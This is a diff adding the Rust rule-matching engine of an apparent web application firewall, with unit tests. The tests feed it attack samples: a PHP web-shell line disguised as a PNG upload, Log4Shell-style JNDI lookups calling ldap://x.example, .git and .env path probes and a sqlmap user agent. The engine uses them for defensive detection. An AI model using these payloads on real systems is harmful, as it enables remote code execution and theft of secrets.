@@ -1,0 +1,719 @@
+//! The rule engine: data-driven matching of a request against the policy's rules and
+//! the default ruleset shipped with the engine (`core/rules/default.json`).
+//!
+//! Compiled once, in [`RuleSet::new`]: every regex rule goes into ONE multi-pattern
+//! DFA (regex-automata's lazy DFA: `MatchKind::All`, searched with overlapping search so
+//! a match of one rule cannot hide another; its states are built on first use into a
+//! fixed-size cache kept in the caller's scratch, so compiling takes a millisecond and
+//! searching stays linear, without backtracking), every literal-set rule into one Aho-Corasick
+//! automaton. Rules differ in their targets and transforms; a request's subjects (each
+//! input, the path, the method, header names, file names) are transformed once per
+//! distinct transform chain and searched once per chain with both automata. A match
+//! counts only for a rule whose chain and targets are the subject's. Searching is linear
+//! in the subject's length and allocates nothing once the scratch buffers have grown.
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind};
+use std::sync::atomic::{AtomicU64, Ordering};
+
+use regex_automata::hybrid::dfa::{Cache, OverlappingState, DFA};
+use regex_automata::nfa::thompson;
+use regex_automata::util::syntax;
+use regex_automata::{Input as SearchInput, MatchKind};
+
+use crate::decode::{decode_url_repeatedly, Transform};
+use crate::error::{Error, ErrorKind};
+use crate::glob::glob_match;
+use crate::policy::{Policy, Rule, RuleAction, MAX_RULES_DFA_BYTES};
+use crate::request::{Request, Source};
+
+/// The ruleset written by the rampart team, shipped in the engine.
+pub(crate) const DEFAULT_RULES_JSON: &str = include_str!("../rules/default.json");
+
+/// Ids 900000-999999 belong to the default ruleset.
+pub(crate) fn is_default_rule_id(id: u32) -> bool {
+    (900_000..1_000_000).contains(&id)
+}
+
+/// The default ruleset, parsed.
+pub fn default_rules() -> Vec<Rule> {
+    serde_json::from_str(DEFAULT_RULES_JSON).expect("the default ruleset is valid JSON (tested)")
+}
+
+/// What a rule can look at.
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum Target {
+    /// Inputs of one source (any when `None`), with an optional key glob.
+    Input {
+        source: Option<Source>,
+        key: Option<Vec<u8>>,
+    },
+    RequestPath,
+    RequestMethod,
+    /// The names of header inputs.
+    HeaderNames,
+}
+
+/// The subject classes a chain is searched for (bit per class).
+const CLASS_REQUEST_PATH: u16 = 1 << 8;
+const CLASS_REQUEST_METHOD: u16 = 1 << 9;
+const CLASS_HEADER_NAMES: u16 = 1 << 10;
+
+fn source_class(source: Source) -> u16 {
+    1 << source.code()
+}
+
+impl Target {
+    fn parse(text: &str) -> Result<Target, String> {
+        match text {
+            "request.path" => return Ok(Target::RequestPath),
+            "request.method" => return Ok(Target::RequestMethod),
+            "header_names" => return Ok(Target::HeaderNames),
+            "input" => return Ok(Target::Input { source: None, key: None }),
+            _ => {}
+        }
+        let (source, key) = match text.split_once(':') {
+            Some((source, key)) if !key.is_empty() => (source, Some(key)),
+            Some(_) => return Err(format!("target `{text}`: empty key after `:`")),
+            None => (text, None),
+        };
+        let source = Source::from_name(source).ok_or_else(|| {
+            format!(
+                "unknown target `{text}`, expected `input`, `request.path`, `request.method`, `header_names` \
+                 or a source (query, body, path, header, cookie, other, file) with an optional `:key`"
+            )
+        })?;
+        // Header names are case-insensitive: keys are compared lowercased.
+        let key = key.map(|k| if source == Source::Header { k.to_ascii_lowercase() } else { k.to_owned() });
+        Ok(Target::Input { source: Some(source), key: key.map(String::into_bytes) })
+    }
+
+    fn classes(&self) -> u16 {
+        match self {
+            Target::Input { source: Some(s), .. } => source_class(*s),
+            Target::Input { source: None, .. } => 0xff,
+            Target::RequestPath => CLASS_REQUEST_PATH,
+            Target::RequestMethod => CLASS_REQUEST_METHOD,
+            Target::HeaderNames => CLASS_HEADER_NAMES,
+        }
+    }
+}
+
+/// Checks one rule on its own (the policy calls this for the user's rules; the default
+/// ruleset is checked by a test). The message does not repeat the id.
+pub(crate) fn validate_rule(rule: &Rule) -> Result<(), String> {
+    if rule.id == 0 {
+        return Err("id must not be 0".to_owned());
+    }
+    if rule.targets.is_empty() {
+        return Err("targets: at least one target is needed".to_owned());
+    }
+    for target in &rule.targets {
+        Target::parse(target).map_err(|e| format!("targets: {e}"))?;
+    }
+    for name in &rule.transforms {
+        if Transform::from_name(name).is_none() {
+            let known: Vec<&str> = Transform::ALL.iter().map(|t| t.name()).collect();
+            return Err(format!("transforms: unknown transform `{name}`, expected one of {}", known.join(", ")));
+        }
+    }
+    let m = &rule.matcher;
+    let kinds = usize::from(m.regex.is_some())
+        + usize::from(!m.literals.is_empty())
+        + usize::from(m.glob.is_some())
+        + usize::from(m.content_mismatch);
+    if kinds != 1 {
+        return Err("match: needs exactly one of `regex`, `literals`, `glob`, `content_mismatch`".to_owned());
+    }
+    if let Some(regex) = &m.regex {
+        syntax::parse_with(regex, &syntax_config())
+            .map_err(|e| format!("match.regex: {}", one_line(&e.to_string())))?;
+        build_dfa(&[regex.as_str()]).map_err(|e| format!("match.regex: {e}"))?;
+    }
+    if m.literals.iter().any(String::is_empty) {
+        return Err("match.literals: empty string".to_owned());
+    }
+    if m.content_mismatch
+        && rule
+            .targets
+            .iter()
+            .any(|t| !matches!(Target::parse(t), Ok(Target::Input { source: Some(Source::File), .. })))
+    {
+        return Err("match.content_mismatch: applies to `file` targets only".to_owned());
+    }
+    if rule.methods.iter().any(|m| m.is_empty() || !m.bytes().all(|b| b.is_ascii_alphabetic())) {
+        return Err("methods: HTTP method names (letters only)".to_owned());
+    }
+    Ok(())
+}
+
+fn one_line(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
+fn syntax_config() -> syntax::Config {
+    // Bytes, not characters: request values need not be UTF-8, and Unicode classes
+    // would multiply the DFA's size. `(?i)` folds ASCII.
+    syntax::Config::new().unicode(false).utf8(false)
+}
+
+/// Memory for the lazy DFA's states, per scratch (per thread). When full it is cleared
+/// and refilled: the search stays linear and never gives up.
+const DFA_CACHE_BYTES: usize = 2 << 20;
+
+fn build_dfa(patterns: &[&str]) -> Result<DFA, String> {
+    DFA::builder()
+        .configure(
+            DFA::config()
+                .match_kind(MatchKind::All)
+                .cache_capacity(DFA_CACHE_BYTES)
+                .minimum_cache_clear_count(None)
+                .skip_cache_capacity_check(true),
+        )
+        .syntax(syntax_config())
+        .thompson(thompson::Config::new().utf8(false).nfa_size_limit(Some(MAX_RULES_DFA_BYTES)))
+        .build_many(patterns)
+        .map_err(|e| {
+            let text = one_line(&e.to_string());
+            let source = std::error::Error::source(&e).map(|s| one_line(&s.to_string())).unwrap_or_default();
+            if [&text, &source].iter().any(|t| t.contains("size limit") || t.contains("exceeded limit")) {
+                format!(
+                    "compiles to an automaton larger than the limit of {} MiB; simplify it",
+                    MAX_RULES_DFA_BYTES >> 20
+                )
+            } else if source.is_empty() {
+                text
+            } else {
+                format!("{text}: {source}")
+            }
+        })
+}
+
+#[derive(Debug)]
+enum Matcher {
+    Regex,
+    Literals,
+    Glob(Vec<u8>),
+    ContentMismatch,
+}
+
+#[derive(Debug)]
+struct CompiledRule {
+    id: u32,
+    action: Option<RuleAction>,
+    targets: Vec<Target>,
+    chain: usize,
+    matcher: Matcher,
+    /// Uppercase method names; empty = any.
+    methods: Vec<Vec<u8>>,
+}
+
+/// A subject of one request that rules may target.
+#[derive(Clone, Copy, Debug)]
+struct Subject<'a> {
+    class: u16,
+    value: &'a [u8],
+    /// The input it comes from, for input subjects.
+    input: Option<usize>,
+    source: Option<Source>,
+    key: &'a [u8],
+}
+
+impl CompiledRule {
+    fn applies_to(&self, subject: &Subject<'_>, method: &[u8]) -> bool {
+        if !self.methods.is_empty() && !self.methods.iter().any(|m| m.eq_ignore_ascii_case(method)) {
+            return false;
+        }
+        self.targets.iter().any(|target| match target {
+            Target::RequestPath => subject.class == CLASS_REQUEST_PATH,
+            Target::RequestMethod => subject.class == CLASS_REQUEST_METHOD,
+            Target::HeaderNames => subject.class == CLASS_HEADER_NAMES,
+            Target::Input { source, key } => {
+                let Some(subject_source) = subject.source.filter(|_| subject.class & 0xff != 0) else {
+                    return false;
+                };
+                source.is_none_or(|s| s == subject_source)
+                    && key.as_deref().is_none_or(|k| {
+                        if subject_source == Source::Header {
+                            glob_match_ignore_case(k, subject.key)
+                        } else {
+                            glob_match(k, subject.key)
+                        }
+                    })
+            }
+        })
+    }
+}
+
+fn glob_match_ignore_case(pattern: &[u8], text: &[u8]) -> bool {
+    // Header names are short: compare a lowercased copy on the stack.
+    let mut buf = [0u8; 128];
+    if text.len() > buf.len() {
+        return glob_match(pattern, text);
+    }
+    for (slot, b) in buf.iter_mut().zip(text) {
+        *slot = b.to_ascii_lowercase();
+    }
+    glob_match(pattern, &buf[..text.len()])
+}
+
+/// The compiled rules of one engine.
+#[derive(Debug)]
+pub(crate) struct RuleSet {
+    rules: Vec<CompiledRule>,
+    dfa: Option<DFA>,
+    /// Identifies this rule set, so a scratch's DFA cache is rebuilt for another engine.
+    id: u64,
+    /// DFA pattern id -> rule index.
+    dfa_rules: Vec<usize>,
+    literals: Option<AhoCorasick>,
+    /// Aho-Corasick pattern id -> rule index.
+    literal_rules: Vec<usize>,
+    /// Distinct transform chains, and the subject classes each is needed for.
+    chains: Vec<(Vec<Transform>, u16)>,
+}
+
+/// Reusable buffers for the rule engine's transforms.
+#[derive(Debug, Default)]
+pub(crate) struct RuleScratch {
+    a: Vec<u8>,
+    b: Vec<u8>,
+    c: Vec<u8>,
+    /// The lazy DFA's state cache, for the rule set with this id.
+    cache: Option<(u64, Cache)>,
+}
+
+impl RuleScratch {
+    pub(crate) fn trim(&mut self) {
+        for buf in [&mut self.a, &mut self.b, &mut self.c] {
+            if buf.capacity() > 1 << 20 {
+                *buf = Vec::new();
+            }
+        }
+    }
+}
+
+static NEXT_RULESET_ID: AtomicU64 = AtomicU64::new(1);
+
+/// A rule that matched: its id, its own action, and the input it matched in.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) struct RuleHit {
+    pub id: u32,
+    pub action: Option<RuleAction>,
+    pub input: Option<usize>,
+}
+
+impl RuleSet {
+    /// Compiles the default ruleset (unless the policy turns it off) and the policy's
+    /// rules, minus the disabled ones.
+    pub(crate) fn new(policy: &Policy) -> Result<RuleSet, Error> {
+        let invalid = |msg: String| Error::new(ErrorKind::InvalidPolicy, msg);
+        let defaults = if policy.default_rules { default_rules() } else { Vec::new() };
+        let all: Vec<&Rule> =
+            defaults.iter().chain(&policy.rules).filter(|r| !policy.disabled_rules.contains(&r.id)).collect();
+        let mut set = RuleSet {
+            rules: Vec::with_capacity(all.len()),
+            dfa: None,
+            id: NEXT_RULESET_ID.fetch_add(1, Ordering::Relaxed),
+            dfa_rules: Vec::new(),
+            literals: None,
+            literal_rules: Vec::new(),
+            chains: Vec::new(),
+        };
+        let mut regexes: Vec<&str> = Vec::new();
+        let mut literals: Vec<&str> = Vec::new();
+        for rule in &all {
+            validate_rule(rule).map_err(|e| invalid(format!("rule {}: {e}", rule.id)))?;
+            let targets: Vec<Target> =
+                rule.targets.iter().map(|t| Target::parse(t)).collect::<Result<_, _>>().map_err(invalid)?;
+            let chain: Vec<Transform> = rule.transforms.iter().filter_map(|t| Transform::from_name(t)).collect();
+            let classes = targets.iter().fold(0, |acc, t| acc | t.classes());
+            let chain_index = match set.chains.iter().position(|(c, _)| *c == chain) {
+                Some(i) => {
+                    set.chains[i].1 |= classes;
+                    i
+                }
+                None => {
+                    set.chains.push((chain, classes));
+                    set.chains.len() - 1
+                }
+            };
+            let index = set.rules.len();
+            let m = &rule.matcher;
+            let matcher = if let Some(regex) = &m.regex {
+                regexes.push(regex);
+                set.dfa_rules.push(index);
+                Matcher::Regex
+            } else if !m.literals.is_empty() {
+                for literal in &m.literals {
+                    literals.push(literal);
+                    set.literal_rules.push(index);
+                }
+                Matcher::Literals
+            } else if let Some(glob) = &m.glob {
+                Matcher::Glob(glob.as_bytes().to_vec())
+            } else {
+                Matcher::ContentMismatch
+            };
+            set.rules.push(CompiledRule {
+                id: rule.id,
+                action: rule.action,
+                targets,
+                chain: chain_index,
+                matcher,
+                methods: rule.methods.iter().map(|m| m.to_ascii_uppercase().into_bytes()).collect(),
+            });
+        }
+        if !regexes.is_empty() {
+            set.dfa = Some(build_dfa(&regexes).map_err(|e| invalid(format!("rules: the regex rules together: {e}")))?);
+        }
+        if !literals.is_empty() {
+            let automaton = AhoCorasickBuilder::new()
+                .ascii_case_insensitive(true)
+                .kind(Some(AhoCorasickKind::DFA))
+                .build(&literals)
+                .map_err(|e| invalid(format!("rules: the literal sets together: {e}")))?;
+            set.literals = Some(automaton);
+        }
+        Ok(set)
+    }
+
+    /// Runs every rule over `request`. An `allow` hit ends the search at once; otherwise
+    /// the first hit (in subject order) is returned. `skip_input` says which inputs the
+    /// policy's exclusions leave alone.
+    pub(crate) fn evaluate(
+        &self,
+        request: &Request,
+        scratch: &mut RuleScratch,
+        skip_input: impl Fn(usize) -> bool,
+    ) -> Option<RuleHit> {
+        if self.rules.is_empty() {
+            return None;
+        }
+        let method = request.method();
+        let mut first: Option<RuleHit> = None;
+        let mut visit = |subject: Subject<'_>, scratch: &mut RuleScratch| -> bool {
+            if let Some(hit) = self.match_subject(&subject, method, request, scratch) {
+                if hit.action == Some(RuleAction::Allow) {
+                    first = Some(hit);
+                    return true;
+                }
+                if first.is_none() {
+                    first = Some(hit);
+                }
+            }
+            false
+        };
+        let plain = |class, value| Subject { class, value, input: None, source: None, key: b"" };
+        if visit(plain(CLASS_REQUEST_PATH, request.path()), scratch)
+            || visit(plain(CLASS_REQUEST_METHOD, method), scratch)
+        {
+            return first;
+        }
+        for (index, input) in request.inputs().enumerate() {
+            if skip_input(index) {
+                continue;
+            }
+            let subject = Subject {
+                class: source_class(input.source),
+                value: input.value,
+                input: Some(index),
+                source: Some(input.source),
+                key: input.key,
+            };
+            if visit(subject, scratch) {
+                return first;
+            }
+            if input.source == Source::Header {
+                let name = Subject { class: CLASS_HEADER_NAMES, value: input.key, ..subject };
+                if visit(name, scratch) {
+                    return first;
+                }
+            }
+        }
+        first
+    }
+
+    fn match_subject(
+        &self,
+        subject: &Subject<'_>,
+        method: &[u8],
+        request: &Request,
+        scratch: &mut RuleScratch,
+    ) -> Option<RuleHit> {
+        let mut found: Option<RuleHit> = None;
+        for (chain_index, (chain, classes)) in self.chains.iter().enumerate() {
+            if classes & subject.class == 0 {
+                continue;
+            }
+            let RuleScratch { a, b, c, cache } = &mut *scratch;
+            let value = transform(chain, subject.value, [a, b, c]);
+            let mut consider = |rule_index: usize| -> bool {
+                let rule = &self.rules[rule_index];
+                if rule.chain != chain_index || !rule.applies_to(subject, method) {
+                    return false;
+                }
+                let hit = RuleHit { id: rule.id, action: rule.action, input: subject.input };
+                if found.is_none() || rule.action == Some(RuleAction::Allow) {
+                    found = Some(hit);
+                }
+                rule.action == Some(RuleAction::Allow)
+            };
+            if let Some(dfa) = &self.dfa {
+                // One cache per thread's scratch, rebuilt only when the scratch meets
+                // another engine's rules.
+                if cache.as_ref().is_none_or(|(id, _)| *id != self.id) {
+                    *cache = Some((self.id, dfa.create_cache()));
+                }
+                let Some((_, cache)) = cache.as_mut() else { return found };
+                let input = SearchInput::new(value);
+                let mut state = OverlappingState::start();
+                // A search error can only come from a quit byte or a lazy DFA that gave
+                // up, and this one has neither (it never gives up: see `build_dfa`);
+                // treat one as "no more matches".
+                while dfa.try_search_overlapping_fwd(cache, &input, &mut state).is_ok() {
+                    let Some(m) = state.get_match() else { break };
+                    if consider(self.dfa_rules[m.pattern().as_usize()]) {
+                        return found;
+                    }
+                }
+            }
+            if let Some(ac) = &self.literals {
+                for m in ac.find_overlapping_iter(value) {
+                    if consider(self.literal_rules[m.pattern().as_usize()]) {
+                        return found;
+                    }
+                }
+            }
+            for (index, rule) in self.rules.iter().enumerate() {
+                let matched = match &rule.matcher {
+                    Matcher::Glob(glob) => glob_match(glob, value),
+                    Matcher::ContentMismatch => subject
+                        .input
+                        .and_then(|i| request.file_info(i))
+                        .is_some_and(|(ty, head)| content_mismatch(ty, head)),
+                    _ => false,
+                };
+                if matched && consider(index) {
+                    return found;
+                }
+            }
+        }
+        found
+    }
+}
+
+/// Applies a chain. Steps that cannot change the value (no `%` to decode, no NUL to
+/// remove) are skipped, and the value is copied into scratch only when a step changes it:
+/// most values are searched where they lie.
+fn transform<'a>(chain: &[Transform], value: &'a [u8], buffers: [&'a mut Vec<u8>; 3]) -> &'a [u8] {
+    let [a, b, c] = buffers;
+    let mut in_scratch = false;
+    for &t in chain {
+        let src: &[u8] = if in_scratch { a } else { value };
+        if !may_change(t, src) {
+            continue;
+        }
+        if !in_scratch {
+            // The buffers swap roles: each gets room for the whole value (outputs never grow).
+            for buf in [&mut *a, &mut *b, &mut *c] {
+                buf.clear();
+                buf.reserve(value.len());
+            }
+        }
+        let src: &[u8] = if in_scratch { a } else { value };
+        if t == Transform::UrlDecode {
+            decode_url_repeatedly(src, b, c);
+        } else {
+            t.apply(src, b);
+        }
+        std::mem::swap(a, b);
+        in_scratch = true;
+    }
+    if in_scratch {
+        a
+    } else {
+        value
+    }
+}
+
+/// A cheap test that `t` leaves `value` as it is (false negatives only cost a copy).
+fn may_change(t: Transform, value: &[u8]) -> bool {
+    match t {
+        Transform::UrlDecode => memchr::memchr(b'%', value).is_some(),
+        Transform::HtmlEntityDecode => memchr::memchr(b'&', value).is_some(),
+        Transform::EscapeDecode => memchr::memchr(b'\\', value).is_some(),
+        Transform::Lowercase => value.iter().any(u8::is_ascii_uppercase),
+        Transform::RemoveNulls => memchr::memchr(0, value).is_some(),
+        Transform::RemoveComments => memchr::memchr3(b'/', b'-', b'#', value).is_some(),
+        Transform::CompressWhitespace | Transform::NormalizePath => true,
+    }
+}
+
+/// Does a file's head contradict its declared type? Script and executable content is
+/// never an image, a PDF or a document; an image type needs that image's magic number.
+fn content_mismatch(declared: &[u8], head: &[u8]) -> bool {
+    // No content given (a scanner reading logs, an empty file): nothing contradicts.
+    if head.is_empty() {
+        return false;
+    }
+    let starts = |magic: &[u8]| head.starts_with(magic);
+    let lower_head = |needle: &[u8]| head.windows(needle.len()).take(512).any(|w| w.eq_ignore_ascii_case(needle));
+    let executable = starts(b"MZ")
+        || starts(b"\x7fELF")
+        || starts(b"#!")
+        || lower_head(b"<?php")
+        || lower_head(b"<%@")
+        || lower_head(b"<script");
+    let ty = |t: &[u8]| declared.len() >= t.len() && declared[..t.len()].eq_ignore_ascii_case(t);
+    if ty(b"image/svg") {
+        return starts(b"MZ") || starts(b"\x7fELF") || lower_head(b"<?php");
+    }
+    if ty(b"image/png") {
+        return !starts(b"\x89PNG\r\n\x1a\n");
+    }
+    if ty(b"image/jpeg") || ty(b"image/jpg") {
+        return !starts(b"\xff\xd8\xff");
+    }
+    if ty(b"image/gif") {
+        return !(starts(b"GIF87a") || starts(b"GIF89a"));
+    }
+    if ty(b"image/webp") {
+        return !(starts(b"RIFF") && head.get(8..12) == Some(b"WEBP"));
+    }
+    if ty(b"application/pdf") {
+        return !starts(b"%PDF-");
+    }
+    if ty(b"image/")
+        || ty(b"text/plain")
+        || ty(b"text/csv")
+        || ty(b"application/json")
+        || ty(b"audio/")
+        || ty(b"video/")
+    {
+        return executable;
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn engine_rules(json: &str) -> Result<RuleSet, Error> {
+        let policy = Policy::from_json(json.as_bytes())?;
+        RuleSet::new(&policy)
+    }
+
+    #[test]
+    fn default_ruleset_is_valid_and_compiles_fast() {
+        let rules = default_rules();
+        assert!(rules.len() >= 15);
+        for rule in &rules {
+            assert!(is_default_rule_id(rule.id), "{}", rule.id);
+            validate_rule(rule).unwrap_or_else(|e| panic!("rule {}: {e}", rule.id));
+        }
+        let start = std::time::Instant::now();
+        let set = RuleSet::new(&Policy::default()).expect("default ruleset compiles");
+        let took = start.elapsed();
+        assert!(set.dfa.is_some() && set.literals.is_some());
+        // The target is < 50 ms in release builds; a debug build gets more room.
+        eprintln!("default ruleset compiled in {took:?}");
+        assert!(took.as_millis() < 2000, "compiling the default ruleset took {took:?}");
+    }
+
+    #[test]
+    fn bad_rules_are_policy_errors_naming_the_rule() {
+        let err = |json: &str| engine_rules(json).expect_err("must be rejected").to_string();
+        let bad_regex = err(r#"{"rules":[{"id":7,"targets":["query"],"match":{"regex":"(unclosed"}}]}"#);
+        assert!(bad_regex.contains("rules[0] (id 7): match.regex"), "{bad_regex}");
+        let bad_transform =
+            err(r#"{"rules":[{"id":8,"targets":["query"],"transforms":["rot13"],"match":{"literals":["x"]}}]}"#);
+        assert!(bad_transform.contains("(id 8): transforms: unknown transform `rot13`"), "{bad_transform}");
+        let huge = err(r#"{"rules":[{"id":9,"targets":["query"],"match":{"regex":"(?:[a-z]{1000}){1000}"}}]}"#);
+        assert!(huge.contains("(id 9)") && huge.contains("larger than the limit"), "{huge}");
+        let two = err(r#"{"rules":[{"id":10,"targets":["query"],"match":{"regex":"a","glob":"b"}}]}"#);
+        assert!(two.contains("exactly one of"), "{two}");
+        let target = err(r#"{"rules":[{"id":11,"targets":["body.json"],"match":{"glob":"b"}}]}"#);
+        assert!(target.contains("(id 11): targets: unknown target `body.json`"), "{target}");
+        let dup = err(
+            r#"{"rules":[{"id":12,"targets":["query"],"match":{"glob":"b"}},{"id":12,"targets":["query"],"match":{"glob":"c"}}]}"#,
+        );
+        assert!(dup.contains("rules[1] (id 12): id is already used"), "{dup}");
+        let reserved = err(r#"{"rules":[{"id":900100,"targets":["query"],"match":{"glob":"b"}}]}"#);
+        assert!(reserved.contains("id is already used"), "{reserved}");
+    }
+
+    #[test]
+    fn targets_transforms_and_allow() {
+        let set = engine_rules(
+            r#"{"rules":[
+                {"id":1,"targets":["query:q"],"transforms":["url_decode","lowercase"],"match":{"literals":["evil"]}},
+                {"id":2,"targets":["request.path"],"match":{"glob":"/admin/*"},"methods":["DELETE"],"action":"block"},
+                {"id":3,"targets":["request.path"],"match":{"glob":"/health"},"action":"allow"}
+            ]}"#,
+        )
+        .expect("rules compile");
+        let mut scratch = RuleScratch::default();
+        let mut r = Request::new();
+        r.set_path(b"/search");
+        r.set_method(b"GET");
+        r.add_input(Source::Query, b"q", b"%2545VIL");
+        let hit = set.evaluate(&r, &mut scratch, |_| false).expect("literal after decoding");
+        assert_eq!((hit.id, hit.input), (1, Some(0)));
+        r.reset();
+        r.add_input(Source::Query, b"other", b"evil");
+        assert_eq!(set.evaluate(&r, &mut scratch, |_| false), None, "key glob");
+        r.reset();
+        r.set_path(b"/admin/users/3");
+        r.set_method(b"GET");
+        assert_eq!(set.evaluate(&r, &mut scratch, |_| false), None, "method condition");
+        r.set_method(b"delete");
+        assert_eq!(set.evaluate(&r, &mut scratch, |_| false).map(|h| h.id), Some(2));
+        r.reset();
+        r.set_path(b"/health");
+        r.add_input(Source::Query, b"q", b"evil");
+        assert_eq!(set.evaluate(&r, &mut scratch, |_| false).map(|h| h.action), Some(Some(RuleAction::Allow)));
+    }
+
+    #[test]
+    fn default_rules_catch_their_targets() {
+        let set = RuleSet::new(&Policy::default()).expect("default ruleset");
+        let mut scratch = RuleScratch::default();
+        let id = |r: &Request, scratch: &mut RuleScratch| set.evaluate(r, scratch, |_| false).map(|h| h.id);
+        let mut r = Request::new();
+        r.add_input(Source::Header, b"User-Agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)");
+        assert_eq!(id(&r, &mut scratch), Some(900100));
+        for (path, rule) in [
+            ("/.git/config", 900200),
+            ("/static/..%2f.env", 900201),
+            ("/wp-login.php", 900202),
+            ("/db.sql", 900203),
+            ("/docs/environment", 0),
+            ("/blog/git-tips", 0),
+        ] {
+            r.reset();
+            r.set_path(path.as_bytes());
+            assert_eq!(id(&r, &mut scratch).unwrap_or(0), rule, "{path}");
+        }
+        for (name, ty, head, rule) in [
+            ("avatar.php", "image/png", &b"\x89PNG\r\n\x1a\n"[..], 900300),
+            ("avatar.php.jpg", "image/jpeg", b"\xff\xd8\xff", 900301),
+            ("avatar.png", "image/png", b"<?php system($_GET['c']); ?>", 900302),
+            ("avatar.png", "image/png", b"\x89PNG\r\n\x1a\n....", 0),
+            ("report.pdf", "application/pdf", b"%PDF-1.7", 0),
+        ] {
+            r.reset();
+            r.add_file(b"upload", name.as_bytes(), ty.as_bytes(), head);
+            assert_eq!(id(&r, &mut scratch).unwrap_or(0), rule, "{name}");
+        }
+        r.reset();
+        r.set_method(b"TRACE");
+        assert_eq!(id(&r, &mut scratch), Some(900400));
+        r.reset();
+        r.add_input(Source::Header, b"x-api-version", b"${jndi:ldap://x.example/a}");
+        assert_eq!(id(&r, &mut scratch), Some(900500));
+        r.reset();
+        r.add_input(Source::Query, b"q", b"${${lower:j}ndi:ldap://x}");
+        assert_eq!(id(&r, &mut scratch), Some(900500));
+    }
+}
